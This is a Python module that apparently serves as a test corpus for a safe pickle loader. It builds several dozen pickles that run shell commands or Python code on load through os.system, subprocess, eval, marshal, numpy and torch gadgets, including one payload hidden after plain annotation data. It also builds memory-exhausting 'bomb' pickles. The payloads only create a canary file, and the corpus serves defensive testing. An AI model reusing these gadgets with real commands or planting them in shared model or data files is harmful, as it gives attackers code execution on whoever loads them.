"""Pickles that attack whoever loads them: those that run code, and those that take all memory.

`code_gadgets` gives pickles each of which makes a file (the canary) when Python's own unpickler
loads it; that they do is checked by `pickle_mutations.py --gadgets`, so that none is a blank
cartridge. `bombs` gives pickles that ask for absurd amounts, or that need an unpickler with
special powers.
"""

import marshal
import pickle
import struct
import tempfile
from pathlib import Path

import numpy as np


def text(value: str) -> bytes:
    content = value.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def pack(value) -> bytes:
    """The operations that lay out a plain value; bytes stand for themselves."""
    if isinstance(value, bytes):
        return value
    if isinstance(value, tuple):
        return b"(" + b"".join(map(pack, value)) + b"t"
    if isinstance(value, list):
        return b"(" + b"".join(map(pack, value)) + b"l"
    return pickle.dumps(value, 2)[2:-1]


def call(module: str, name: str, *arguments) -> bytes:
    return named(module, name) + pack(arguments) + b"R"


def apply(function: bytes, *arguments) -> bytes:
    return function + pack(arguments) + b"R"


def get(thing: bytes, attribute: str) -> bytes:
    return call("builtins", "getattr", thing, attribute)


def data(content: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(content)) + content


def code_gadgets(canary: Path) -> dict[str, bytes]:
    """Name -> pickle that makes ``canary`` when it is loaded the ordinary way."""
    touch, python = f"touch {canary}", f"open({str(canary)!r}, 'w')"
    system, module = named("os", "system"), call("builtins", "__import__", "os")
    folder = Path(tempfile.mkdtemp(dir=canary.parent))
    (folder / "script.py").write_text(python)
    inner = b"\x80\x02" + call("os", "system", touch) + b"."
    array = np.empty(1, object)
    array[0] = _Command(touch)
    np.save(folder / "objects.npy", array, allow_pickle=True)
    (folder / "inner.pkl").write_bytes(inner)
    path = call("pathlib", "PosixPath", str(canary))
    function = apply(named("types", "FunctionType"), call("marshal", "loads", data(
        marshal.dumps(compile(python, "x", "exec")))), {})
    name = (b"\x80\x04" + text("system") + b"\x940" + text("os") + b"h\x00\x93")
    gadgets = {
        "os.system": call("os", "system", touch),
        "posix.system": call("posix", "system", touch),
        "os.popen": get(call("os", "popen", touch), "read") + b")R",
        "os.mkdir": call("os", "mkdir", str(canary)),
        "os.spawnlp": call("os", "spawnlp", 0, "touch", "touch", str(canary)),
        "os.posix_spawn": apply(named("os", "waitpid"), call(
            "os", "posix_spawnp", "touch", ["touch", str(canary)], {}), 0),
        "subprocess.Popen": get(call("subprocess", "Popen", ["touch", str(canary)]), "wait")
        + b")R",
        "subprocess.call": call("subprocess", "call", ["touch", str(canary)]),
        "subprocess.check_output": call("subprocess", "check_output", ["touch", str(canary)]),
        "subprocess.getoutput": call("subprocess", "getoutput", touch),
        "pty.spawn": call("pty", "spawn", ["touch", str(canary)]),
        "builtins.eval": call("builtins", "eval", python),
        "__builtin__.eval": b"\x80\x02" + call("__builtin__", "eval", python),
        "builtins.exec": call("builtins", "exec", python),
        "builtins.compile": call("builtins", "eval", call("builtins", "compile", python, "x",
                                                          "eval")),
        "builtins.open": call("builtins", "open", str(canary), "w"),
        "builtins.getattr": apply(get(module, "system"), touch),
        "builtins.map": call("collections", "deque", call("builtins", "map", system, [touch])),
        "builtins.filter": call("builtins", "list", call("builtins", "filter", system, [touch])),
        "itertools.starmap": call("builtins", "list", call("itertools", "starmap", system,
                                                           [(touch,)])),
        "io.open": call("io", "open", str(canary), "w"),
        "io.FileIO": call("io", "FileIO", str(canary), "w"),
        "codecs.open": call("codecs", "open", str(canary), "w"),
        "pathlib.Path.touch": get(path, "touch") + b")R",
        "importlib.import_module": apply(get(call("importlib", "import_module", "os"), "system"),
                                         touch),
        "runpy.run_path": call("runpy", "run_path", str(folder / "script.py")),
        "runpy._run_code": call("runpy", "_run_code", call("builtins", "compile", python, "x",
                                                           "exec"), {}),
        "timeit.timeit": call("timeit", "timeit", "pass", python),
        "timeit.main": call("timeit", "main", ["-n1", "-r1", python]),
        "cProfile.run": call("cProfile", "run", python, str(folder / "profile")),
        "trace.Trace": apply(get(call("trace", "Trace", 0, 0), "run"), python),
        "bdb.Bdb.runeval": apply(get(call("bdb", "Bdb"), "runeval"), python),
        "code.InteractiveInterpreter": apply(
            get(call("code", "InteractiveInterpreter"), "runsource"), python),
        "pydoc.pipepager": call("pydoc", "pipepager", "", touch),
        "operator.attrgetter": apply(apply(call("operator", "attrgetter", "system"), module),
                                     touch),
        "operator.methodcaller": apply(call("operator", "methodcaller", "touch"), path),
        "functools.partial": call("functools", "partial", system, touch) + b")R",
        "functools.reduce": call("functools", "reduce", named("builtins", "open"),
                                 [str(canary), "w"]),
        "types.FunctionType": function + b")R",
        "types.MethodType": call("types", "MethodType", system, touch) + b")R",
        "pickle.loads": call("pickle", "loads", data(inner)),
        "_pickle.loads": call("_pickle", "loads", data(inner)),
        "numpy.load": call("numpy", "load", str(folder / "objects.npy"), None, True),
        "numpy.vectorize": apply(call("numpy", "vectorize", system), touch),
        "numpy.testing.runstring": call("numpy.testing._private.utils", "runstring", python, {}),
        "numpy.f2py.myeval": call("numpy.f2py.crackfortran", "myeval", python),
        "numpy object array": pickle.dumps({"annotations": array}, 4)[:-1],
        "numpy scalar of objects": pickle.dumps([np.array([_Command(touch)], object)], 2)[:-1],
        "logging.FileHandler": call("logging", "FileHandler", str(canary)),
        "zipfile.ZipFile": call("zipfile", "ZipFile", str(canary), "w"),
        "shutil.copyfile": call("shutil", "copyfile", str(folder / "script.py"), str(canary)),
        "os.rename": call("os", "rename", str(folder / "inner.pkl"), str(canary)),
        "sqlite3.connect": call("sqlite3", "connect", str(canary)),
        "ctypes.CDLL": apply(get(call("ctypes", "CDLL", None), "system"), data(touch.encode())),
        "webbrowser.GenericBrowser": apply(get(call(
            "webbrowser", "GenericBrowser", ["touch", "%s"]), "open"), str(canary)),
        "imaplib.IMAP4_stream": call("imaplib", "IMAP4_stream", touch),
        "copyreg._reconstructor": call(
            "copyreg", "_reconstructor", named("logging", "FileHandler"),
            named("logging", "FileHandler"), str(canary)),
        "STACK_GLOBAL": name + pack((touch,)) + b"R",
        "STACK_GLOBAL dotted": b"\x80\x04" + text("os") + text("path.os.system") + b"\x93"
        + pack((touch,)) + b"R",
        "INST": b"(" + text(touch) + b"ios\nsystem\n",
        "OBJ": b"(" + named("subprocess", "Popen") + pack(["touch", str(canary)]) + b"o",
        "BUILD __setstate__": call("types", "SimpleNamespace") + b"}" + text("__setstate__")
        + system + b"sb" + text(touch) + b"b",
        "BUILD __dict__": call("types", "SimpleNamespace") + b"}" + text("run") + system + b"sb"
        + b"q\x000" + get(b"h\x00", "run") + pack((touch,)) + b"R",
        "hidden behind plain data": pickle.dumps({"annotations": [{"label": 1}]}, 2)[:-1] + b"0"
        + call("os", "system", touch),
        "torch.storage": call("torch.storage", "_load_from_bytes", data(_torch_file(inner))),
    }
    return {key: b"\x80\x04" * (not value.startswith(b"\x80")) + value + b"."
            for key, value in gadgets.items()}


def _torch_file(inner: bytes) -> bytes:
    """A torch file of before 2020: numbers, then a pickle that torch loads."""
    return b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {})) + inner


class _Command:
    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        import os

        return os.system, (self.command,)


def bombs() -> dict[str, bytes]:
    """Name -> pickle that asks for absurd amounts, or for powers that no plain data needs."""
    laughs = b"(lp0\n" + b"".join(
        b"(" + b"g%d\n" % i * 10 + b"lp%d\n" % (i + 1) for i in range(60))
    array = pickle.dumps(np.zeros(4, np.float32), 4)
    return {
        "billion laughs": b"(" + laughs + b"l.",
        "billion laughs as annotations": b"}" + text("annotations") + b"(" + laughs + b"ls.",
        "array in a thousand clips": _one_array_in_many_clips(2_000),
        "long text announced": b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b"x.",
        "long bytes announced": b"\x80\x04\x8e" + struct.pack("<Q", 2**63 - 1) + b"x.",
        "long number announced": b"\x80\x04\x8b" + struct.pack("<I", 2**31 - 1) + b"x.",
        "long digits": b"I" + b"9" * 1_000_000 + b"\n.",
        "endless line": b"V" + b"x" * 40_000_000,
        "frame of 2**63": b"\x80\x04\x95" + struct.pack("<Q", 2**63) + b"N.",
        "memo at 2**32": b"\x80\x04Nr" + b"\xff" * 4 + b"0N.",
        "memo at 10**30": b"Np" + b"9" * 30 + b"\n.",
        "deep tuples": b"N" + b"\x85" * 3_000_000 + b".",
        "deep tuple as a key": b"}N" + b"\x85" * 1_000_000 + b"Ns.",
        "deep lists": b"]" * 1_000_000 + b"a" * 999_999 + b".",
        "marks": b"(" * 3_000_000 + b".",
        "a list in itself": b"]q\x00h\x00a" + b"h\x00a" * 1000 + b".",
        "dicts without end": b"(" + b"}" * 20_000_000 + b"t.",
        "shape beyond 2**64": array.replace(b"K\x04\x85", b"\x8a\x08" + b"\xff" * 7 + b"\x7f\x85"),
        "negative shape": array.replace(b"K\x04\x85", b"J\xff\xff\xff\xff\x85"),
        "objects by type code": array.replace(b"\x8c\x02f4", b"\x8c\x02O8"),
        "void by type code": array.replace(b"\x8c\x02f4", b"\x8c\x02V4"),
        "EXT1": b"\x80\x02\x82\x01.", "EXT2": b"\x80\x02\x83\x01\x01.",
        "EXT4": b"\x80\x02\x84\x01\x01\x01\x01.",
        "PERSID": b"Pos.system\n.", "BINPERSID": b"\x80\x02" + text("x") + b"Q.",
        "NEWOBJ": b"\x80\x02" + named("subprocess", "Popen") + b")\x81.",
        "NEWOBJ_EX": b"\x80\x04" + named("subprocess", "Popen") + b")}\x92.",
        "NEXT_BUFFER": b"\x80\x05\x97.", "READONLY_BUFFER": b"\x80\x05N\x98.",
        "other codec": b"\x80\x02" + call("_codecs", "encode", "x", "zlib") + b".",
        "subclass of ndarray": b"\x80\x02" + call("numpy.core.multiarray", "_reconstruct",
                                                  named("numpy", "memmap"), (0,), "b") + b".",
    }


def _one_array_in_many_clips(clips: int) -> bytes:
    big = np.zeros((2, 200, 25, 3), np.float32)
    return pickle.dumps([{"frame_dir": str(i), "label": 0, "keypoint": big} for i in range(clips)])
